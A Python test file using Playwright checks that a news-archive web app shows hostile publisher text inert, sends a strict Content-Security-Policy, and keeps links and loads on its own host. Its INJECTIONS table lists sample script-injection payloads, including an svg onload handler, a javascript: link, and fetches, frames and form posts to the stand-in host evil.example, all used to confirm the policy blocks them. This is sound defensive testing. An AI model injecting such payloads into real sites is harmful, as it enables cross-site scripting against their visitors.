"""What hostile publishers write is shown as they wrote it, and does nothing: whatever page it stands on."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote_plus, urlsplit

import pytest
from lxml import etree
from playwright.sync_api import Browser

from tests.browser import hostile
from tests.browser.hostile import TEXTS
from tests.browser.served import serving
from tests.browser.visiting import DESK, PHONE, Visit, one_of_many, visiting

ADDRESSES = """() => [...document.querySelectorAll("*")].flatMap(element =>
    ["href", "src", "srcset", "action", "formaction", "data", "poster", "background", "ping", "xlink:href"]
    .filter(name => element.hasAttribute(name))
    .map(name => {
        let url
        try { url = new URL(element.getAttribute(name), document.baseURI) } catch { url = new URL("invalid:") }
        return [element.matches("a, link[rel=canonical]"), name, url.protocol, url.host]
    }))"""
HANDLERS = """() => [...document.querySelectorAll("*")].flatMap(element =>
    element.getAttributeNames().filter(name => name.startsWith("on")).map(name => `${element.localName} ${name}`))"""
INJECTIONS = {
    "a script without a nonce": """const script = document.createElement("script")
        script.textContent = "window.ran = 1"; document.body.append(script)""",
    "a script of another host": """const script = document.createElement("script")
        script.src = "https://evil.example/x.js"; document.body.append(script)""",
    "a handler": """document.body.insertAdjacentHTML("beforeend", "<svg onload='window.ran = 1'></svg>")""",
    "a javascript: link": """const link = document.createElement("a")
        link.href = "javascript:window.ran = 1"; document.body.append(link); link.click()""",
    "text as a script": """try { setTimeout("window.ran = 1", 0) } catch {}""",
    "an image of another host": """new Image().src = "https://evil.example/x.gif" """,
    "a call of another host": """fetch("https://evil.example/").catch(() => {})""",
    "a frame of another host": """const frame = document.createElement("iframe")
        frame.src = "https://evil.example/"; document.body.append(frame)""",
    "a form to another host": """const form = document.createElement("form")
        form.action = "https://evil.example/"; document.body.append(form); form.submit()""",
}
"""What a publisher's markup would do, had it got into a page."""
SQL = "select+headline,+url,+image_url,+short_url,+flags+from+articles"


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a server of the hostile archive."""
    with serving(hostile.make(tmp_path_factory.mktemp("hostile"))) as found:
        yield found


@pytest.fixture(scope="module")
def window(browser: Browser, address: str) -> Iterator[Visit]:
    with visiting(browser, address) as opened:
        yield opened


@pytest.fixture
def visit(window: Visit) -> Iterator[Visit]:
    with one_of_many(window, DESK) as opened:
        yield opened


def is_safe(visit: Visit, path: str, status: int = 200) -> None:
    """Open a page: it brings the policy, has no handler, loads from this server only, and all links are of the web."""
    response = visit.open(path, status)
    if status != 200:
        visit.forgive(str(status))
    policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert "unsafe" not in policy["script-src"]
    assert visit.page.evaluate(HANDLERS) == []
    own = visit.page.evaluate("location.host")
    for is_link, attribute, scheme, host in visit.page.evaluate(ADDRESSES):
        assert scheme in ("http:", "https:"), (path, attribute, scheme)
        assert is_link or host == own, (path, attribute, host)
    assert visit.wrong == [], path


def shown(text: str) -> str:
    """A text as HTML can hold it: no parser keeps NUL, and half a surrogate pair is no character."""
    return text.replace("\x00", "") + ("\ufffd" * 3 if text == TEXTS["emoji"] else "")


def test_headlines_stand_on_the_front_page_as_typed(visit: Visit) -> None:
    is_safe(visit, "/news/-/news")
    headlines = visit.page.locator("main").locator("h3, .version a").all()
    assert {each.text_content() for each in headlines} == {shown(text) for text in TEXTS.values()}


@pytest.mark.parametrize("name", TEXTS)
def test_an_article_is_shown_as_typed(visit: Visit, name: str) -> None:
    number = list(TEXTS).index(name) + 1
    is_safe(visit, f"/news/articles/{number}")
    assert visit.page.get_by_role("heading", level=1).text_content() == shown(TEXTS[name])


@pytest.mark.parametrize("name", TEXTS)
def test_what_a_visitor_types_is_text_as_well(visit: Visit, name: str) -> None:
    typed = quote_plus(TEXTS[name][:500])
    is_safe(visit, f"/news/-/search?q={typed}&language={typed}&section={typed}&tag={typed}&since={typed}&until={typed}")
    assert visit.page.get_by_label("Words to look for").input_value() == TEXTS[name][:500].replace("\x00", "\ufffd")


@pytest.mark.parametrize("name", ["script", "handler", "quote", "jinja", "control"])
def test_so_is_what_he_chooses(visit: Visit, name: str) -> None:
    typed = quote_plus(TEXTS[name])
    is_safe(visit, f"/news/-/news?language={typed}&section={typed}&site={typed}&until={typed}&before={typed}")
    is_safe(visit, f"/news/articles?_search={typed}&headline__contains={typed}")
    is_safe(visit, f"/news/-/charts?span={typed}&language={typed}&site={typed}")
    is_safe(visit, f"/news/latest?language={typed}&site={typed}&since={typed}&until={typed}")


@pytest.mark.parametrize("kind", ["tables", "views", "queries"])
def test_every_list_is_safe(visit: Visit, kind: str) -> None:
    found = [each["name"] if isinstance(each, dict) else each for each in visit.open("/news.json").json()[kind]]
    assert len(found) > 2
    for name in found:
        # The tables in which SQLite keeps its search index hold no text
        if not name.startswith("articles_fts_"):
            is_safe(visit, f"/news/{name}")


@pytest.mark.parametrize(
    "path", [
        "", f"?sql={SQL}", "/articles?_facet=language&_facet=section&_facet=parser", "/tags/1", "/authors/1",
        "/failures/1", "/runs/1", "/sites/report", "/-/charts", "/-/feeds", "/-/diff/1?from=1&to=2",
        "/-/diff/14?from=1&to=2", "/articles/4?revision=1", "/-/page/1", "/-/pages/1", "/-/page/nowhere",
    ],
)  # fmt: skip
def test_every_other_page_is_safe(visit: Visit, path: str) -> None:
    is_safe(visit, f"/news{path}", 404 if "nowhere" in path else 200)


def test_feeds_are_well_formed_and_lead_to_the_web_only(visit: Visit) -> None:
    visit.open("/news/-/feeds")
    addresses = visit.page.locator("main a[href*='.atom']").evaluate_all("links => links.map(link => link.href)")
    assert len(addresses) > 5
    for address in addresses:
        feed = etree.fromstring(visit.page.request.get(address).body())
        links = [urlsplit(each).scheme for each in feed.xpath("//@href")]
        assert set(links) <= {"http", "https"}, address
        assert not feed.xpath("//*[local-name() = 'script' or local-name() = 'img']"), address


def test_a_stored_page_does_nothing_where_it_is_shown(visit: Visit) -> None:
    is_safe(visit, "/news/-/page/1")
    inside = visit.page.frame_locator("iframe")
    assert inside.locator("p").inner_text() == "The text that was stored"
    assert "sandbox" in visit.open("/news/-/page/1/render").headers["content-security-policy"]
    visit.page.wait_for_timeout(300)
    assert visit.page.url.endswith("/news/-/page/1/render")
    assert visit.page.locator("script, iframe, form[action], a[href], [onload], [onerror]").count() == 0


@pytest.mark.parametrize(
    "path", [
        "-/news", "articles/14", "-/diff/14?from=1&to=2", "-/search?q=again", "-/feeds", "articles", "latest", "edited",
        "failed", "tags/1", "-/page/1", "-/pages/14", "-/charts",
    ],
)  # fmt: skip
def test_nothing_makes_a_page_wider_than_a_phone(window: Visit, path: str) -> None:
    with one_of_many(window, PHONE) as visit:
        visit.open(f"/news/{path}")
        assert visit.overflow() == 0


@pytest.mark.parametrize("path", ["/news/-/news", "/news/articles", "/news/articles/1"])
def test_the_policy_bites(visit: Visit, path: str) -> None:
    visit.open(path)
    for what, injected in INJECTIONS.items():
        with visit.page.expect_console_message(lambda message: "Content Security Policy" in message.text):
            visit.page.evaluate(f"() => {{ {injected} }}")
        assert visit.page.evaluate("window.ran") is None, what
        visit.forgive("Content Security Policy")
